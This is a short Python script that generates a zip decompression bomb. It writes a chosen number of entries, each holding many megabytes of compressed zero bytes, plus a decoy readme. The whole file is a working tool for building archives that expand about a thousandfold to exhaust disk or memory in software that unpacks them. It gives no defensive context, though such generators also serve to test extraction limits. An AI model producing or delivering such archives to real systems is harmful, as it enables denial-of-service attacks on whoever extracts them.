"""Writes an archive that is a thousand times as large inside: make_bomb.py MEGABYTES ENTRIES TEXT PATH"""
import sys
import zipfile

with zipfile.ZipFile(sys.argv[4], 'w', zipfile.ZIP_DEFLATED) as archive:
    for name in range(int(sys.argv[2])):
        archive.writestr(zipfile.ZipInfo(f'{name}.bin'), bytes(int(sys.argv[1]) << 20), zipfile.ZIP_DEFLATED)
    archive.writestr(zipfile.ZipInfo('readme.txt'), '\n'.join(f'{sys.argv[3]} {i}' for i in range(100)), zipfile.ZIP_DEFLATED)
